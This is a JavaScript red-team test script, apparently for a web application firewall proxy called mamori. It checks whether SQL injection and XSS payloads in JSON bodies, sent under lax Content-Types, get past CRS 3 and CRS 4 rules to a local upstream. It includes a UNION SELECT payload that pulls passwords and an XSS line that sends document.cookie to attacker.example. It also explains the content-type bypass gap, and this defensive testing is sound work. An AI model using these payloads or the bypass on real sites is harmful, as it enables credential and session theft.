// Third pass: bodies whose Content-Type gives mamori no body processor, while the upstream parses
// them anyway. PHP APIs read `json_decode(file_get_contents('php://input'))` whatever the type; Express's
// `express.json({ type: '*/*' })` and many webhook handlers do the same. CRS 4 allows only a few types
// (920420); CRS 3.3.4 also allows text/plain, application/octet-stream, application/x-amf,
// application/csp-report and application/xss-auditor-report, whose bodies no processor reads.
// What reaches the upstream is printed per type; a FINDING when a SQLi or XSS in a JSON body does.
// node bench/redteam/waf-proxy3-body-types.mjs
import { CRS3 } from './waf-proxy3-lib.mjs';
import { CRS, startUpstream, startMamori, raw, rawReq, report, results, reached } from './waf-proxy-lib.mjs';

const SQLI = "1' UNION SELECT username, password FROM users WHERE '1'='1";
const XSS = '<svg/onload=fetch(`//attacker.example/`+document.cookie)>';
const TYPES = ['text/plain', 'text/plain;charset=UTF-8', 'application/octet-stream', 'application/x-amf', 'application/csp-report', 'application/xss-auditor-report', 'application/x-json', 'text/json', 'application/json'];
const up = await startUpstream();
for (const [name, crs] of [['CRS 3', CRS3], ['CRS 4', CRS]]) {
  const m = await startMamori(up.url, { waf: { crs, paranoia: 1, block_sources: { after: 0 } } });
  try {
    for (const type of TYPES) {
      for (const [what, body, needle] of [['SQLi', JSON.stringify({ id: SQLI }), 'UNION SELECT'], ['XSS', JSON.stringify({ bio: XSS }), 'onload']]) {
        const since = up.seen.length;
        const st = (await raw(m.port, rawReq({ method: 'POST', target: '/api/profile', headers: { 'Content-Type': type }, body }))).statuses[0];
        const through = reached(up, needle, since);
        report(!through, `${name}: ${what} in a JSON body sent as ${type} is refused`, `status ${st}${through ? ', reached the upstream' : ''}`);
      }
    }
  } finally {
    await m.stop();
  }
}
await up.close();
console.log(`\n${results.findings} finding(s)`);
